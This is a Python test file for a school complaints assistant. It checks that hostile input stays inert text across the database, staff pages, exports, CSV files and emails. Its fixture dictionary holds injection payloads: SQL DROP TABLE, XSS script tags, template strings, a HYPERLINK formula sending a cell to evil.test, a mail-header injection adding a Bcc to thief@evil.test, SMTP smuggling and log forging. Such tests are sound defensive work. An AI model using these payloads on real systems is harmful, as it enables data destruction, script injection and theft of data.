"""What tries to be more than words is kept as words: in the store, in mail, on the pages and in the files to take."""

import csv
import email
import email.message
import email.policy
import io
import json
from collections.abc import Callable
from datetime import timedelta
from html import unescape
from pathlib import Path

import pytest
import sqlalchemy as sa
from case_samples import OFFENSIVE
from fakes import FakeReceipts
from staff_site import Browser

from assistant.adapters.mail import FolderMail
from assistant.adapters.sql import tables
from assistant.core.case_errors import RefusedError
from assistant.core.records import Account, Draft, Record
from assistant.core.references import format_receipt
from assistant.core.rights import RightsKind
from assistant.core.routing import About, Kind
from assistant.core.staff import StaffAccount, StaffRole
from assistant.services.deliver_notices import deliver_notices
from assistant.services.give_record import AskedRight, give_record
from assistant.services.open_case import open_case
from assistant.services.rights_requests import due_requests
from assistant.services.send_reminders import send_reminders
from assistant.wiring import Wiring

Enter = Callable[..., tuple[Browser, StaffAccount]]
DIGITS = "1234567890123456"
FORMULA = ("=", "+", "-", "@", "\t", "\r")
EVIL = {
    "SQL": "x'); DROP TABLE records; --",
    "HTML": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "template": "{{ 7 * 7 }} {text} %(text)s ${text}",
    "formula": '=HYPERLINK("https://evil.test/?"&A1)',
    "mail header": "x\r\nBcc: thief@evil.test\r\nSubject: other\r\n\r\nbody",
    "mail end": "x\r\n.\r\nMAIL FROM:<thief@evil.test>",
    "log line": "x\n2026-01-01 00:00:00 ERROR all is lost",
}


@pytest.mark.parametrize("field", ["text", "contact", "place"])
@pytest.mark.parametrize("name", EVIL)
def test_what_is_evil_in_a_field_stays_words_everywhere(
    parts: Wiring, browser: Browser, enter: Enter, tmp_path: Path, field: str, name: str
) -> None:
    evil = EVIL[name]
    account = Account(**{"text": "what happened", "contact": "kim@mail.test", "place": "a group"} | {field: evil})
    parts.receipts = FakeReceipts(DIGITS)
    draft = Draft(Kind.COMPLAINT, About.STAFF, account)
    given = give_record(parts.store, parts.receipts, parts.clock, draft=draft, request_id="r1")
    with parts.store.transaction() as records:
        assert records.account(given.record.id) == account

    mail, contacts = FolderMail(tmp_path / "mail"), parts.directory.contacts
    sent = deliver_notices(
        parts.store,
        mail,
        parts.clock,
        contacts,
        sender="assistant@school.test",
        public_url="https://school.test",
        attach_complaint=True,
    )
    (file,) = (tmp_path / "mail").glob("*.eml")
    message = email.message_from_bytes(file.read_bytes(), policy=email.policy.default)
    head = [(key, message[key]) for key in ("To", "Cc", "Bcc", "From", "Subject")]
    assert (sent, head) == (
        1,
        [
            ("To", contacts[given.readers[0]].email),
            ("Cc", None),
            ("Bcc", None),
            ("From", "assistant@school.test"),
            ("Subject", "A formal complaint has been sent to you"),
        ],
    )
    assert [len(message.get_all(key, [])) for key in ("To", "From", "Subject", "Message-ID")] == [1, 1, 1, 1]

    head_of_school, _ = enter(StaffRole.HEADTEACHER)
    browser.post("/receipt", data={"receipt": format_receipt(DIGITS)})
    for page in (head_of_school.get(f"/staff/records/{given.record.id}"), browser.get("/receipt/copy")):
        assert page.status_code == 200
        assert " ".join(evil.split()) in " ".join(unescape(page.text).split())
        assert "<script>alert" not in page.text
        assert "onerror=alert(1)>" not in page.text
    copied = json.loads(browser.get("/receipt/copy/file").text)
    assert (copied["what_happened"], copied["contact"], copied["where"]) == (
        account.text,
        account.contact,
        account.place,
    )
    with parts.engine.begin() as connection:
        assert connection.execute(sa.select(sa.func.count()).select_from(tables.records)).scalar_one() == 1


def _shown(browser: Browser, path: str) -> str:
    """Return what a page shows as words, after it was seen to hold no mark-up of somebody else's."""
    page = browser.get(path)
    assert page.status_code == 200
    assert "<script>alert" not in page.text
    assert "onerror=alert(1)>" not in page.text
    return " ".join(unescape(page.text).split())


def _reminders(parts: Wiring, folder: Path) -> list[email.message.EmailMessage]:
    mail = FolderMail(folder)
    parts.clock.pass_by(timedelta(days=30))  # type: ignore[attr-defined]
    send_reminders(
        parts.case_desk,
        parts.staff_door.store,
        parts.reminders,
        mail,
        asked=lambda accounts: due_requests(parts.rights_desk, accounts),
        sender="assistant@school.test",
        public_url="https://school.test",
    )
    files = [path.read_bytes() for path in folder.glob("*.eml")]
    return [email.message_from_bytes(file, policy=email.policy.default) for file in files]  # type: ignore[misc]


@pytest.mark.parametrize("name", EVIL)
def test_what_is_evil_in_why_a_record_was_closed_stays_words(
    parts: Wiring, enter: Enter, give: Callable[..., Record], name: str
) -> None:
    record, evil = give(Kind.CONCERN, About.PUPIL), EVIL[name]
    head, _ = enter(StaffRole.HEADTEACHER)
    head.get(f"/staff/records/{record.id}")
    form = {"csrf": head.csrf(), "rule": "no_case", "words": evil}
    answer = head.post(f"/staff/records/{record.id}/close", data=form)
    assert answer.headers["Location"] == f"/staff/records/{record.id}?done=done"
    assert " ".join(evil.split()) in _shown(head, f"/staff/records/{record.id}")


@pytest.mark.parametrize("name", EVIL)
def test_what_is_evil_in_an_answer_about_data_stays_words(parts: Wiring, enter: Enter, name: str) -> None:
    evil, parts.receipts = EVIL[name], FakeReceipts(DIGITS)
    draft = Draft(Kind.DATA_RIGHTS, About.OTHER, Account("a copy"))
    asked = AskedRight(RightsKind.ACCESS)
    given = give_record(parts.store, parts.receipts, parts.clock, draft=draft, request_id="r1", asked=asked)
    head, _ = enter(StaffRole.HEADTEACHER)
    form = {"csrf": head.csrf(), "outcome": "fulfilled", "words": evil}
    answer = head.post(f"/staff/rights/{given.record.id}/answer", data=form)
    assert answer.headers["Location"] == f"/staff/rights/{given.record.id}"
    assert " ".join(evil.split()) in _shown(head, f"/staff/rights/{given.record.id}")
    stored = json.loads(head.get(f"/staff/rights/{given.record.id}/stored.json").text)
    assert [row["answer"].split() for row in stored["rights_requests"]] == [evil.split()]


@pytest.mark.parametrize("name", [name for name in EVIL if "\n" in EVIL[name]])
def test_a_title_of_a_case_of_several_lines_is_refused(parts: Wiring, enter: Enter, name: str) -> None:
    _, account = enter(StaffRole.HEADTEACHER)
    with pytest.raises(RefusedError, match="on one line"):
        open_case(parts.case_desk, actor=account, title=EVIL[name], facts=OFFENSIVE, request_id="r1")


@pytest.mark.parametrize(
    ("field", "name"),
    [
        (field, name)
        for field in ("title", "place", "people", "words")
        for name in EVIL
        if field != "title" or "\n" not in EVIL[name]
    ],
)
def test_what_is_evil_in_a_case_stays_words_in_no_cell_a_formula_and_in_no_head_of_a_mail(
    parts: Wiring, enter: Enter, tmp_path: Path, field: str, name: str
) -> None:
    evil = EVIL[name]
    head, account = enter(StaffRole.HEADTEACHER)
    fields = {"title": "a post", "place": "a group", "people": "Kim", "words": "what it says"} | {field: evil}
    opened = open_case(parts.case_desk, actor=account, facts=OFFENSIVE, request_id="r1", **fields)
    reference = opened.case.reference
    assert " ".join(evil.split()) in _shown(head, f"/staff/cases/{reference}")
    file = head.get(f"/staff/cases/{reference}/chronology.csv").content.decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(file, newline="")) for cell in line]
    assert [cell for cell in cells if cell.lstrip().startswith(FORMULA)] == []
    messages = _reminders(parts, tmp_path / "mail")
    assert len(messages) > 0
    for message in messages:
        assert [message[key] for key in ("To", "Cc", "Bcc", "From")] == [
            account.email,
            None,
            None,
            "assistant@school.test",
        ]
        assert evil not in message.as_string()
